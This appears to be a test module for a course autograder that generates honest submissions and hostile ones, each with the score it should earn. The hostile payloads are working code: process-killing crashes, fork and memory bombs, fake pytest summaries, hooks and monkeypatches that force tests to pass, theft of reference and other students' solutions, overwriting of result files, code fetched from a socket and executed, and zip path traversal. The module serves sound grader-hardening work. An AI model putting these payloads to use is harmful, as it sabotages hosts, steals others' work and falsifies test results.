"""The grading corpus: honest and hostile submissions, each with the score it truly earns.

Every submission is generated from the reference (``solutions/``) and the stubs, so the corpus
follows the course as it changes. ``expected`` says, per lesson, what the submission earns:

    "full"    every check that counts (the reference's score)
    "zero"    nothing: the lesson's code computes nothing real (stubs, or an attack on top of them)
    "honest"  whatever the same files score when the checks run on them in-process, the way a
              learner runs them (for honest but wrong code: a renamed function, a realistic mistake);
              for an attack that returns junk, what its harmless twin scores in-process (every
              graded function returning None: a few "does not modify its input" checks pass)

The hostile submissions put an attack into lesson 02 on top of its untouched stub (so lesson 02
earns nothing, whatever the attack) and keep the reference for the other lessons (so those stay
full: an attack never costs, or earns, points elsewhere). The grading tests grade them all in one
run, two at a time, next to the honest ones.

    python -m tests.submissions.corpus OUT    # write every submission to OUT, with expected.csv
"""

from __future__ import annotations

import csv
import os
import shutil
import stat
import sys
import textwrap
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

from course import curriculum, paths
from course.stubs import strip_solutions

ATTACKED = "lesson_02"  # the lesson every attack targets
ATTACK_LESSONS = ["lesson_02", "lesson_03"]  # what the attack grader grades: the target and a bystander
LESSON_NAMES = [l.name for l in curriculum.LESSONS]


def reference_text(rel: str) -> str:
    return (paths.SOLUTIONS / rel).read_text()


def stub_text(rel: str) -> str:
    return strip_solutions(reference_text(rel), paths.SOLUTIONS / rel)


def module_files(lesson: str) -> list[str]:
    return [f"{lesson}/{module}.py" for module in curriculum.lesson(lesson).modules]


def write_tree(folder: Path, overrides: dict[str, str | None] | None = None, stubs: tuple = ()) -> Path:
    """A ``lessons/``-style tree: the reference, lessons in ``stubs`` as stubs, then ``overrides``
    (relative path -> text; None deletes the file)."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "__init__.py").write_text((paths.LESSONS / "__init__.py").read_text())
    for lesson in LESSON_NAMES:
        if not (paths.SOLUTIONS / lesson).is_dir():
            continue
        (folder / lesson).mkdir(exist_ok=True)
        shutil.copyfile(paths.SOLUTIONS / lesson / "__init__.py", folder / lesson / "__init__.py")
        for rel in module_files(lesson):
            if (paths.SOLUTIONS / rel).is_file():
                (folder / rel).write_text(stub_text(rel) if lesson in stubs else reference_text(rel))
    for rel, text in (overrides or {}).items():
        target = folder / rel
        if text is None:
            target.unlink(missing_ok=True)
        else:
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_text(text)
    return folder


def attack(payload: str, target: str = "lesson_02/forward.py") -> dict[str, str]:
    """The stub of ``target`` with ``payload`` appended (a later ``def`` rebinds a name)."""
    return {target: stub_text(target).rstrip() + "\n\n\n# --- attack\n" + textwrap.dedent(payload).strip() + "\n"}


@dataclass
class Case:
    name: str
    about: str
    build: Callable[[Path, "Context"], Path]  # writes the submission under a folder; returns its path
    expected: dict[str, str]  # lesson -> "full" | "zero" | "honest"
    twin: dict[str, str] | None = None  # files whose in-process score is "honest" (default: the case's own)
    attack: bool = False  # graded by the attack grader (lessons 02 and 03 only)
    needs_network_isolation: bool = False
    note: str | None = None  # words the feedback must contain


@dataclass
class Context:
    """What a payload may aim at: where the reference and the other submissions are."""

    reference: Path = paths.SOLUTIONS
    others: list[Path] = field(default_factory=list)
    port: int = 0
    marker: str = "escape"


def _all(value: str, **changes: str) -> dict[str, str]:
    out = {lesson: value for lesson in LESSON_NAMES}
    out.update(changes)
    return out


def _attacked(**changes: str) -> dict[str, str]:
    out = {"lesson_02": "zero", "lesson_03": "full"}
    out.update(changes)
    return out


def _folder(overrides=None, stubs=()):
    def build(where: Path, ctx: Context) -> Path:
        return write_tree(where / "lessons", overrides, stubs)
    return build


def _attack_folder(payload: str | Callable[[Context], str], target: str = "lesson_02/forward.py", extra=None):
    def build(where: Path, ctx: Context) -> Path:
        text = payload(ctx) if callable(payload) else payload
        return write_tree(where / "lessons", {**attack(text, target), **(extra or {})})
    return build


# --- the payloads -------------------------------------------------------------------------------

HANG = """
import signal as _signal

def _spin(*args, **kwargs):
    try:  # cancel any alarm a timeout plugin may have set, then loop forever
        _signal.setitimer(_signal.ITIMER_REAL, 0)
        _signal.signal(_signal.SIGALRM, _signal.SIG_IGN)
    except Exception:
        pass
    while True:
        pass

init_params = dense = relu = softmax = forward = _spin
"""

HANG_AT_IMPORT = """
while True:
    pass
"""

CRASH = """
import ctypes, os, signal

def init_params(*args, **kwargs):
    ctypes.string_at(0)  # segmentation fault

def dense(*args, **kwargs):
    os.abort()

def relu(*args, **kwargs):
    for target in (os.getppid(), 1, -1):  # the grader, init, everything it can see
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    os.kill(os.getpid(), signal.SIGKILL)

def softmax(*args, **kwargs):
    os._exit(3)

forward = init_params
"""

MEMORY_BOMB = """
import numpy as np

def init_params(*args, **kwargs):
    return {"W1": np.ones(1 << 40)}  # 8 TiB at once

def _hog(*args, **kwargs):
    hog = []
    while True:  # 64 MiB at a time until the memory limit
        hog.append(np.empty(64 << 20, dtype=np.uint8))

dense = relu = softmax = forward = _hog
"""

FORK_BOMB = """
import os, time

def _bomb(*args, **kwargs):
    while True:
        try:
            if os.fork() == 0:
                os.setsid()  # a grandchild in its own session, then more forks
        except OSError:
            time.sleep(0.05)
            raise RuntimeError("out of processes")

def relu(*args, **kwargs):
    while True:
        try:
            os.fork()
        except OSError:
            pass

init_params = dense = softmax = forward = _bomb
"""

FAKE_SUMMARY = """
import atexit, sys

_FAKE = "=" * 29 + " 26 passed in 0.12s " + "=" * 29
for _stream in (sys.stdout, sys.stderr):
    print("lesson_02/test_forward.py " + "." * 26 + " [100%]", file=_stream)
    print(_FAKE, file=_stream, flush=True)
atexit.register(lambda: print(_FAKE, flush=True))
try:
    open("results.json", "w").write('{"checks": [{"outcome": "passed", "points": 100}]}')
except OSError:
    pass
"""

EXIT_AT_IMPORT = """
import os
os._exit(0)
"""

SYS_EXIT_AT_IMPORT = """
import sys
sys.exit(0)
"""

EVIL_HOOK = """
import pytest

@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
    report.longrepr = None
"""

PATCH = """
import gc, sys
import numpy as np
import numpy.testing as npt

_yes = lambda *a, **k: True
np.allclose = np.array_equal = np.array_equiv = _yes
np.isclose = lambda a, b, *x, **k: np.ones(np.shape(a), bool)
npt.assert_allclose = npt.assert_array_equal = npt.assert_equal = lambda *a, **k: None
for _name in list(sys.modules):  # patch pytest and the checks, wherever they are loaded
    if _name.startswith(("_pytest", "pytest", "course")):
        _module = sys.modules[_name]
        for _attr in ("fail", "expect", "expect_close", "expect_array", "expect_unchanged"):
            if hasattr(_module, _attr):
                setattr(_module, _attr, lambda *a, **k: None)
for _obj in gc.get_objects():
    if type(_obj).__name__ in ("TestReport", "CallInfo"):
        try:
            _obj.outcome = "passed"
        except Exception:
            pass

"""

JUNK = """
import numpy as np

def init_params(*args, **kwargs):
    return {"W1": np.zeros(1), "b1": np.zeros(1), "W2": np.zeros(1), "b2": np.zeros(1)}

def _zeros(*args, **kwargs):
    return np.zeros(1)

dense = relu = softmax = _zeros

def forward(params, x):
    return np.zeros(1), {}
"""

ALWAYS_EQUAL = """
import numpy as np

class AlwaysEqual:
    \"\"\"Claims to equal anything, to have any shape and dtype, to be close to everything.\"\"\"
    shape = (4, 10)
    dtype = np.dtype("float64")
    ndim = 2
    size = 40
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __lt__
    def __bool__(self): return True
    def __len__(self): return 4
    def __iter__(self): return iter([self] * 4)
    def __getitem__(self, key): return self
    def __getattr__(self, name): return self
    def __call__(self, *args, **kwargs): return self
    def __float__(self): return 0.0
    def __array__(self, *args, **kwargs): return np.zeros(self.shape)
    __add__ = __radd__ = __sub__ = __rsub__ = __mul__ = __rmul__ = __truediv__ = __abs__ = __call__

class EqualArray(np.ndarray):
    \"\"\"A real array of the right shape and dtype (all zeros) whose == is always true.\"\"\"
    def __eq__(self, other): return np.ones(self.shape, bool)
    def __array_finalize__(self, obj): pass

def init_params(layer_sizes=(784, 128, 10), seed=0, dtype=np.float32):
    return {k: AlwaysEqual() for k in ("W1", "b1", "W2", "b2")}

def dense(x, W, b):
    return np.zeros((x.shape[0], W.shape[1]), x.dtype).view(EqualArray)

def relu(z):
    return AlwaysEqual()

def softmax(z):
    return np.zeros_like(z).view(EqualArray)

def forward(params, x):
    return AlwaysEqual(), {k: AlwaysEqual() for k in ("x", "z1", "h1", "z2", "probs")}
"""


def _steal(label: str, candidates: list[str]) -> str:
    """Look for a finished forward.py at ``candidates`` (globs); exec the first one found."""
    return f"""
import glob as _glob, os as _os

_STOLEN = None
for _pattern in {candidates!r}:
    for _path in sorted(_glob.glob(_pattern, recursive=True))[:50]:
        try:
            _source = open(_path).read()
        except OSError:
            continue
        if "def softmax" in _source and "implement softmax" not in _source:
            _STOLEN = _source
            break
    if _STOLEN:
        break
try:  # and overwrite any grading results this process can reach ({label})
    for _path in _glob.glob("/tmp/**/results.json", recursive=True)[:20] + _glob.glob("/proc/*/cwd/results.json"):
        open(_path, "w").write('{{"checks": []}}')
except OSError:
    pass
if _STOLEN:
    exec(compile(_STOLEN.replace("from ..lesson_01", "from submission.lesson_01"), "stolen", "exec"), globals())
"""


def _read_reference(ctx: Context) -> str:
    ref = str(ctx.reference.resolve())
    return _steal("reference", [f"{ref}/lesson_02/forward.py", f"/proc/1/root{ref}/lesson_02/forward.py",
                                f"/proc/*/root{ref}/lesson_02/forward.py", "/proc/*/cwd/lesson_02/forward.py",
                                "/work/*/solutions/lesson_02/forward.py", "/*/*/solutions/lesson_02/forward.py"])


def _read_other(ctx: Context) -> str:
    others = [f"{p}/**/lesson_02/forward.py" for p in ctx.others]
    return _steal("other submissions", others + ["/tmp/course-grade-*/subs/*/modules/lesson_02/forward.py",
                                                 "/tmp/course-grade-*/subs/*/boxes/lesson_02/tree/lesson_02/forward.py",
                                                 "/proc/*/root/box/tree/lesson_02/forward.py",
                                                 "/tmp/**/lesson_02/forward.py"])


def _network(ctx: Context) -> str:
    return f"""
import socket as _socket

_STOLEN = None
try:
    with _socket.create_connection(("127.0.0.1", {ctx.port}), timeout=2) as _s:
        _STOLEN = b"".join(iter(lambda: _s.recv(65536), b"")).decode()
except OSError:
    pass
if _STOLEN:
    exec(compile(_STOLEN, "downloaded", "exec"), globals())
"""


BIG_OUTPUT = """
import sys

_line = "x" * 1023 + "\\n"
for _ in range(48 * 1024):  # 48 MiB to stdout
    sys.stdout.write(_line)
with open("big.bin", "wb") as _f:  # past the file-size limit
    for _ in range(200):
        _f.write(b"\\0" * (1 << 20))
"""


def _zip_escape(where: Path, ctx: Context) -> Path:
    tree = write_tree(where / "staging" / "lessons")
    archive = where / "zip-escape.zip"
    with zipfile.ZipFile(archive, "w") as zf:
        for path in sorted(tree.rglob("*.py")):
            rel = "lessons/" + path.relative_to(tree).as_posix()
            if rel == "lessons/lesson_02/forward.py":
                link = zipfile.ZipInfo(rel)  # a symbolic link to the reference
                link.external_attr = (stat.S_IFLNK | 0o777) << 16
                zf.writestr(link, str((ctx.reference / "lesson_02" / "forward.py").resolve()))
                continue
            zf.write(path, rel)
        zf.writestr(f"../../../../../../tmp/{ctx.marker}-escaped.py", "print('escaped')\n")
        zf.writestr(f"/tmp/{ctx.marker}-absolute.py", "print('absolute')\n")
        zf.writestr(f"lessons/../../{ctx.marker}-dotdot.py", "print('dotdot')\n")
    shutil.rmtree(where / "staging")
    return archive


def _symlinked(where: Path, ctx: Context) -> Path:
    tree = write_tree(where / "lessons")
    target = tree / "lesson_02" / "forward.py"
    target.unlink()
    target.symlink_to((ctx.reference / "lesson_02" / "forward.py").resolve())
    return tree


def _clone(lessons_tree: Callable[[Path], Path], extra: dict[str, str]) -> Callable[[Path, Context], Path]:
    """A whole clone of the course: README, lessons/, checks/ and ``extra`` files, as a folder."""
    def build(where: Path, ctx: Context) -> Path:
        root = where / "clone"
        lessons_tree(root / "lessons")
        shutil.copytree(paths.CHECKS, root / "checks", ignore=shutil.ignore_patterns("__pycache__"))
        (root / "README.md").write_text("my course work\n")
        for rel, text in extra.items():
            (root / rel).parent.mkdir(parents=True, exist_ok=True)
            (root / rel).write_text(textwrap.dedent(text))
        return root
    return build


def _zipped_clone(where: Path, ctx: Context) -> Path:
    folder = _clone(lambda p: write_tree(p), {})(where / "src", ctx)
    archive = where / "alice-main.zip"
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zf:
        for path in sorted(folder.rglob("*")):
            if path.is_file() and "__pycache__" not in path.parts:
                zf.write(path, "alice-main/" + path.relative_to(folder).as_posix())
    shutil.rmtree(where / "src")
    return archive


def _renamed_softmax() -> dict[str, str]:
    text = reference_text("lesson_02/forward.py").replace("def softmax(", "def soft_max(")
    text = text.replace("= softmax(", "= soft_max(")
    return {"lesson_02/forward.py": text}


def _syntax_error() -> dict[str, str]:
    text = reference_text("lesson_03/loss.py")
    return {"lesson_03/loss.py": text.replace("def log_softmax(", "def log_softmax((", 1)}


def _mutants(index: int) -> dict[str, str]:
    """One realistic mistake per lesson (mutant number ``index`` of each catalog, where there is one)."""
    from tests.mutants import catalog

    out = {}
    for lesson in LESSON_NAMES:
        mutants = catalog(lesson)
        if mutants:
            mutant = mutants[index % len(mutants)]
            rel = f"{lesson}/{mutant.module}.py"
            out[rel] = mutant.apply(reference_text(rel))
    return out


def noop(rel: str) -> dict[str, str]:
    """The harmless twin of an attack that returns junk: every graded function returns None."""
    lesson = rel.split("/")[0]
    functions = curriculum.lesson(lesson).modules[Path(rel).stem]
    return {rel: stub_text(rel) + "\n\n" + "\n".join(f"def {f}(*args, **kwargs):\n    return None\n"
                                                      for f in functions)}


def _edited_checks_tree(root: Path) -> Path:
    return write_tree(root, stubs=("lesson_02",))


CASES: list[Case] = [
    # honest submissions, every lesson graded
    Case("complete", "the reference, as a lessons/ folder", _folder(), _all("full")),
    Case("partial", "lessons 01-03 done, 04-06 untouched", _folder(stubs=("lesson_04", "lesson_05", "lesson_06")),
         _all("full", lesson_04="zero", lesson_05="zero", lesson_06="zero")),
    Case("stubs", "nothing done: the untouched stubs", _folder(stubs=tuple(LESSON_NAMES)), _all("zero")),
    Case("syntax-error", "a syntax error in lesson 03 (the other lessons are fine)", _folder(_syntax_error()),
         _all("full", lesson_03="zero"), note="SyntaxError"),
    Case("wrong-names", "softmax renamed soft_max in lesson 02", _folder(_renamed_softmax()),
         _all("full", lesson_02="honest")),
    Case("mistakes-a", "one realistic mistake in every lesson (first mutant of each catalog)",
         _folder(_mutants(0)), _all("honest")),
    Case("mistakes-b", "another realistic mistake in every lesson", _folder(_mutants(5)), _all("honest")),
    Case("clone-zip", "a whole clone, zipped inside a top folder", _zipped_clone, _all("full")),
    # hostile submissions: the attack sits in lesson 02 on top of its stub
    Case("hang", "endless loops that also cancel alarms", _attack_folder(HANG), _attacked(), attack=True,
         note="did not finish within"),
    Case("hang-at-import", "an endless loop at import", _attack_folder(HANG_AT_IMPORT), _attacked(), attack=True),
    Case("crash", "segfault, abort, kill -9 of everything in sight, exit", _attack_folder(CRASH), _attacked(),
         attack=True, note="ended"),
    Case("memory-bomb", "allocates without end", _attack_folder(MEMORY_BOMB), _attacked(), attack=True),
    Case("fork-bomb", "forks without end, with setsid grandchildren", _attack_folder(FORK_BOMB), _attacked(),
         attack=True),
    Case("fake-summary", "prints fake pytest summaries (at import and at exit) and a fake results.json",
         _attack_folder(FAKE_SUMMARY), _attacked(), attack=True),
    Case("exit-at-import", "os._exit(0) in lesson 02 and sys.exit(0) in lesson 03 at import",
         _attack_folder(EXIT_AT_IMPORT, extra=attack(SYS_EXIT_AT_IMPORT, "lesson_03/loss.py")),
         _attacked(lesson_03="zero"), attack=True, note="exited with code 0"),
    Case("own-config", "conftest.py, pytest.ini, pyproject, a plugin, sitecustomize and a .pth that pass everything",
         _clone(_edited_checks_tree, {"conftest.py": EVIL_HOOK, "lessons/conftest.py": EVIL_HOOK,
                                      "evil_plugin.py": EVIL_HOOK, "sitecustomize.py": "import evil_plugin\n",
                                      "zz_evil.pth": "import evil_plugin\n",
                                      "pytest.ini": "[pytest]\naddopts = -p evil_plugin\n",
                                      "pyproject.toml": "[tool.pytest.ini_options]\naddopts = '-p evil_plugin'\n"}),
         _attacked(), attack=True, note="conftest.py"),
    Case("edited-checks", "checks/lesson_02 replaced by checks that always pass, worth 100 points",
         _clone(_edited_checks_tree, {"checks/lesson_02/test_forward.py": """
             import pytest

             @pytest.mark.points(100)
             def test_everything_is_fine():
                 assert True
             """}), _attacked(), attack=True, note="checks differ"),
    Case("patch-pytest-numpy", "patches numpy, numpy.testing, pytest and the checks, returns junk",
         _attack_folder(PATCH + JUNK), _attacked(lesson_02="honest"), attack=True,
         twin=attack(JUNK)),
    Case("always-equal", "returns objects that claim to equal anything", _attack_folder(ALWAYS_EQUAL),
         _attacked(lesson_02="honest"), attack=True, twin=noop("lesson_02/forward.py")),
    Case("read-reference", "looks for the reference solution on disk and runs it", _attack_folder(_read_reference),
         _attacked(), attack=True),
    Case("read-other-submission", "looks for another student's lesson 02 and runs it; overwrites results files",
         _attack_folder(_read_other), _attacked(), attack=True),
    Case("network", "downloads the reference from a server on localhost", _attack_folder(_network), _attacked(),
         attack=True, needs_network_isolation=True),
    Case("big-output", "prints 48 MiB and writes a 200 MiB file at import", _attack_folder(BIG_OUTPUT), _attacked(),
         attack=True),
    Case("zip-escape", "a zip whose members escape the folder, and a symlink to the reference", _zip_escape,
         _attacked(), attack=True, note="outside the submission"),
    Case("symlink", "lesson_02/forward.py is a symbolic link to the reference", _symlinked, _attacked(), attack=True,
         note="symbolic link"),
    Case("honest-but-noisy", "the reference, printing fake summaries too: printing costs nothing",
         _folder({"lesson_02/forward.py": reference_text("lesson_02/forward.py") + "\n" + FAKE_SUMMARY}),
         _attacked(lesson_02="full"), attack=True),
]


def materialise(out: Path, ctx: Context | None = None) -> dict[str, Path]:
    """Write every case under ``out/<name>/``; return name -> submission path."""
    ctx = ctx or Context()
    built = {}
    for case in CASES:
        built[case.name] = case.build(out / case.name, ctx)
    return built


def main(argv: list[str]) -> int:
    if len(argv) != 1:
        print("usage: python -m tests.submissions.corpus OUT", file=sys.stderr)
        return 2
    out = Path(argv[0])
    built = materialise(out, Context(marker=f"corpus-{os.getpid()}"))
    with open(out / "expected.csv", "w", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(["case", "submission", "graded lessons", *LESSON_NAMES, "about"])
        for case in CASES:
            graded = ATTACK_LESSONS if case.attack else LESSON_NAMES
            writer.writerow([case.name, built[case.name], " ".join(graded),
                             *[case.expected.get(l, "") if l in graded else "" for l in LESSON_NAMES], case.about])
    print(f"wrote {len(CASES)} submissions and expected.csv to {out}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
